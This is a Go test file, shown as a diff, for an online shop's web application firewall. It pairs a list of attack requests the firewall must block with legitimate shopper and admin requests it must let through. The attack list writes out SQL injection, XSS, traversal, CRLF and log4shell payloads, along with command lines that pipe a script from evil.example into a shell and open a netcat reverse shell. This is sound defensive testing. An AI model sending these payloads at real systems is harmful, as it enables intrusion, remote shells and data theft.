@@ -1,0 +1,179 @@
+package waf
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strconv"
+	"strings"
+	"testing"
+)
+
+// request describes one test request; body is sent with contentType when set.
+type request struct {
+	name, method, target, contentType, body string
+	header                                  map[string]string
+}
+
+func (rq request) build() *http.Request {
+	var req *http.Request
+	if rq.body != "" {
+		req = httptest.NewRequest(rq.method, rq.target, strings.NewReader(rq.body))
+		req.Header.Set("Content-Type", rq.contentType)
+		req.Header.Set("Content-Length", strconv.Itoa(len(rq.body))) // as net/http's server leaves it
+	} else {
+		req = httptest.NewRequest(rq.method, rq.target, nil)
+	}
+	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
+	req.Header.Set("Accept", "application/json, text/html;q=0.9")
+	req.Header.Set("Accept-Language", "en-GB,en;q=0.8")
+	for k, v := range rq.header {
+		req.Header.Set(k, v)
+	}
+	return req
+}
+
+func q(s string) string { return url.QueryEscape(s) }
+
+const jsonType, formType = "application/json", "application/x-www-form-urlencoded"
+
+// attacks are sent to catalog, search, checkout and login; every one must be blocked.
+var attacks = []request{
+	// SQL injection
+	{name: "sqli tautology in search", method: "GET", target: "/api/v1/search?q=" + q("shoes' OR '1'='1' --")},
+	{name: "sqli union in catalog filter", method: "GET", target: "/api/v1/products?category=" + q("x' UNION SELECT username,password FROM users--")},
+	{name: "sqli sleep in sort", method: "GET", target: "/api/v1/products?sort=" + q("price;SELECT pg_sleep(10)")},
+	{name: "sqli stacked in search", method: "GET", target: "/api/v1/search?q=" + q("1; DROP TABLE products; --")},
+	{name: "sqli in login json", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
+		body: `{"email":"admin@example.com' OR 1=1 --","password":"x"}`},
+	{name: "sqli in checkout json", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+		body: `{"cart_id":"1 UNION ALL SELECT NULL,version(),NULL--","email":"a@b.co"}`},
+	{name: "sqli in login form", method: "POST", target: "/api/v1/auth/login", contentType: formType,
+		body: "email=" + q("' or 1=1#") + "&password=x"},
+	// XSS
+	{name: "xss script in search", method: "GET", target: "/api/v1/search?q=" + q("<script>alert(document.cookie)</script>")},
+	{name: "xss event handler in catalog", method: "GET", target: "/api/v1/products?category=" + q(`"><img src=x onerror=alert(1)>`)},
+	{name: "xss javascript uri in checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+		body: `{"shipping":{"name":"<svg/onload=alert(1)>","line1":"javascript:alert(1)"}}`},
+	{name: "xss in login", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
+		body: `{"email":"<script>fetch('//evil.example/'+document.cookie)</script>","password":"x"}`},
+	// path traversal and local files
+	{name: "traversal in product path", method: "GET", target: "/api/v1/products/..%2f..%2f..%2fetc%2fpasswd"},
+	{name: "traversal in query", method: "GET", target: "/api/v1/products?image=" + q("../../../../etc/passwd")},
+	{name: "traversal to env file", method: "GET", target: "/api/v1/search?q=" + q("/proc/self/environ")},
+	// command injection
+	{name: "cmd injection in search", method: "GET", target: "/api/v1/search?q=" + q("shoes; cat /etc/passwd")},
+	{name: "cmd substitution in checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+		body: `{"note":"$(curl http://evil.example/x.sh | sh)"}`},
+	{name: "cmd pipe in login", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
+		body: `{"email":"a@b.co","password":"x | nc -e /bin/sh evil.example 4444"}`},
+	// protocol attacks
+	{name: "smuggled request in a body field", method: "POST", target: "/api/v1/checkout", contentType: formType,
+		body: "note=" + q("x\r\n\r\nGET /api/v1/admin/orders HTTP/1.1\r\nHost: shop\r\n")},
+	{name: "response splitting in query", method: "GET", target: "/api/v1/search?q=" + q("x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK")},
+	{name: "header injection via CRLF in query", method: "GET", target: "/api/v1/products?next=" + q("x\r\nSet-Cookie: session=evil")},
+	{name: "null byte in query", method: "GET", target: "/api/v1/products?slug=" + q("shirt\x00.php")},
+	{name: "null byte in json body", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
+		body: `{"email":"a@b.co\u0000","password":"x\u0000' or 1=1"}`},
+	{name: "java deserialization / log4shell", method: "GET", target: "/api/v1/search?q=" + q("${jndi:ldap://evil.example/a}")},
+	{name: "php wrapper", method: "GET", target: "/api/v1/products?file=" + q("php://filter/convert.base64-encode/resource=index.php")},
+	{name: "scanner user agent", method: "GET", target: "/api/v1/products", header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
+	{name: "method not allowed by setup", method: "TRACE", target: "/api/v1/products"},
+	{name: "remote file inclusion", method: "GET", target: "/api/v1/products?template=" + q("http://203.0.113.7/shell.txt?")},
+}
+
+// legitimate are what shoppers and admins really send; none may be blocked.
+var legitimate = []request{
+	{name: "product list with filters", method: "GET", target: "/api/v1/products?category=clothing&sort=price_asc&limit=20&cursor=eyJwIjoxMjM0fQ"},
+	{name: "product by slug", method: "GET", target: "/api/v1/products/linen-shirt-blue"},
+	{name: "search with apostrophe", method: "GET", target: "/api/v1/search?q=" + q("men's shoes")},
+	{name: "search with quotes and ampersand", method: "GET", target: "/api/v1/search?q=" + q(`"rock & roll" t-shirt`) + "&price_min=1000&price_max=5000&sort=relevance&page=2"},
+	{name: "search in another script", method: "GET", target: "/api/v1/search?q=" + q("café crème — größe 42, 日本茶")},
+	{name: "search with a hyphen and slash", method: "GET", target: "/api/v1/search?q=" + q("usb-c 65w charger / laptop")},
+	{name: "storefront page", method: "GET", target: "/p/linen-shirt-blue", header: map[string]string{"Accept": "text/html"}},
+	{name: "register with plus email and symbol password", method: "POST", target: "/api/v1/auth/register", contentType: jsonType,
+		body: `{"email":"jane.doe+shop@example.com","password":"C0rrect-H0rse;b@ttery'staple!","name":"Jane O'Neil"}`},
+	{name: "login with symbol password", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
+		body: `{"email":"o'brien+orders@example.co.uk","password":"p@ss' OR w0rd\"--;<>&|$"}`},
+	{name: "login form", method: "POST", target: "/account/login", contentType: formType,
+		body: "email=" + q("jane+1@example.com") + "&password=" + q(`S3cr3t!#%&*()_+=-{}[]:;"'<>,.?/~`) + "&csrf=k1Zx9f"},
+	{name: "admin product with html description", method: "POST", target: "/api/v1/admin/products", contentType: jsonType,
+		header: map[string]string{"Authorization": "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
+		body:   `{"name":"Men's linen shirt","slug":"mens-linen-shirt","description":"<p>Soft <strong>100% linen</strong> shirt &mdash; breathable.</p><ul><li>Machine wash at 30&deg;</li><li>Made in Portugal</li></ul><p><a href=\"/c/shirts\">More shirts</a> &amp; <em>sizes S-XXL</em>.</p>","attributes":{"material":"linen","fit":"regular"},"variants":[{"sku":"LS-BLU-M","price":{"amount":4999,"currency":"EUR"}}]}`},
+	{name: "admin product update with select-like words", method: "PUT", target: "/api/v1/admin/products/mens-linen-shirt", contentType: jsonType,
+		body: `{"name":"Select from our union of colours","description":"Order by size, then drop in the cart. Update: new table of sizes."}`},
+	{name: "admin inventory put", method: "PUT", target: "/api/v1/admin/inventory/LS-BLU-M", contentType: jsonType, body: `{"warehouse":"main","on_hand":25}`},
+	{name: "cart add item", method: "POST", target: "/api/v1/carts/c_01HZX/items", contentType: jsonType, body: `{"sku":"LS-BLU-M","quantity":2}`},
+	{name: "cart patch quantity", method: "PATCH", target: "/api/v1/carts/c_01HZX/items/LS-BLU-M", contentType: jsonType, body: `{"quantity":3}`},
+	{name: "cart remove item", method: "DELETE", target: "/api/v1/carts/c_01HZX/items/LS-BLU-M"},
+	{name: "checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
+		header: map[string]string{"Idempotency-Key": "7f9c2ba4-e88f-11ee-a506-0242ac120002"},
+		body:   `{"cart_id":"c_01HZX","email":"jane+shop@example.com","shipping_address":{"name":"Jane O'Neil","line1":"12 St. Mary's Rd.","line2":"Flat 3/B","city":"Saint-Étienne","postal_code":"42000","country":"FR"},"payment":{"card_number":"4242424242424242","exp":"12/30","cvc":"123"},"note":"Please leave it at the door - thanks!"}`},
+	{name: "checkout page form", method: "POST", target: "/checkout", contentType: formType,
+		body: "name=" + q("Seán O'Connor-Smith") + "&line1=" + q("1 Main St. #4") + "&email=" + q("sean+x@example.ie") + "&note=" + q("Ring twice; dog's friendly :)")},
+	{name: "refresh token", method: "POST", target: "/api/v1/auth/refresh", contentType: jsonType, body: `{"refresh_token":"rt_3J8sK2-lQ_9x=="}`},
+	{name: "jwks", method: "GET", target: "/.well-known/jwks.json"},
+	{name: "admin order refund", method: "POST", target: "/api/v1/admin/orders/o_123/refund", contentType: jsonType, body: `{"amount":1500,"reason":"Item arrived damaged; customer's photo attached"}`},
+	{name: "search for a book title with sql words", method: "GET", target: "/api/v1/search?q=" + q("O'Reilly's SQL cookbook: select, union & drop-in tips")},
+	{name: "search with percent and plus", method: "GET", target: "/api/v1/search?q=" + q("100% cotton c++ 1/2\" <3 mug")},
+	{name: "browser session cookie", method: "GET", target: "/account/orders",
+		header: map[string]string{"Cookie": "pasar_session=Zm9vYmFyLWJhei0xMjM0NTY3ODkw.c2ln-_; pasar_csrf=a1B2c3D4e5", "Referer": "https://shop.example.com/cart?x=1"}},
+	{name: "admin description with image and link", method: "POST", target: "/api/v1/admin/products", contentType: jsonType,
+		body: `{"name":"Mug","description":"<h2>Stoneware mug</h2><p><img src=\"/media/mug.png\" alt=\"Blue mug, 350 ml\" width=\"400\"></p><p>See the <a href=\"https://example.com/care?lang=en&amp;v=2\" title=\"care guide\">care guide</a>. Dishwasher-safe; don't microwave it &gt; 2 min.</p><blockquote>Best mug I've owned</blockquote>"}`},
+	{name: "conditional get", method: "GET", target: "/api/v1/products/linen-shirt-blue", header: map[string]string{"If-None-Match": `W/"9f86d081"`}},
+}
+
+func TestAttackCorpusIsBlocked(t *testing.T) {
+	t.Parallel()
+	h := testWAF(t, Block, nil).Wrap(echo)
+	for _, tc := range attacks {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if rec := serve(h, tc.build()); rec.Code < 400 || rec.Header().Get("Pasar-Incident") == "" {
+				t.Errorf("%s %s: status %d, want it blocked", tc.method, tc.target, rec.Code)
+			}
+		})
+	}
+}
+
+func TestLegitimateRequestsPass(t *testing.T) {
+	t.Parallel()
+	h := testWAF(t, Block, nil).Wrap(echo)
+	for _, tc := range legitimate {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if rec := serve(h, tc.build()); rec.Code != http.StatusOK {
+				t.Errorf("%s %s: status %d: %s", tc.method, tc.target, rec.Code, rec.Body)
+			}
+		})
+	}
+}
+
+// TestExclusionsStayNarrow checks that each exclusion lifts only what it names: the HTML a
+// description may hold passes on admin product routes, script in it does not, and the same HTML
+// elsewhere is still flagged.
+func TestExclusionsStayNarrow(t *testing.T) {
+	t.Parallel()
+	h := testWAF(t, Block, nil).Wrap(echo)
+	html := `{"description":"<p><img src=\"/media/mug.png\" alt=\"Blue mug\"></p>"}`
+	for _, tc := range []struct {
+		name, target, body string
+		wantBlocked        bool
+	}{
+		{"html description on admin products", "/api/v1/admin/products", html, false},
+		{"html description on an admin product", "/api/v1/admin/products/mug", html, false},
+		{"script in an admin description", "/api/v1/admin/products", `{"description":"<script>alert(1)</script>"}`, true},
+		{"event handler in an admin description", "/api/v1/admin/products", `{"description":"<img src=x onerror=alert(1)>"}`, true},
+		{"html in another admin field", "/api/v1/admin/products", `{"name":"<p><img src=\"/m.png\" alt=\"x\"></p>"}`, true},
+		{"html description outside admin", "/api/v1/checkout", html, true},
+		{"html description on a look-alike path", "/api/v1/admin/productsx", html, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			rec := serve(h, request{method: "POST", target: tc.target, contentType: jsonType, body: tc.body}.build())
+			if blocked := rec.Code == http.StatusForbidden; blocked != tc.wantBlocked {
+				t.Errorf("status %d, want blocked=%v", rec.Code, tc.wantBlocked)
+			}
+		})
+	}
+}
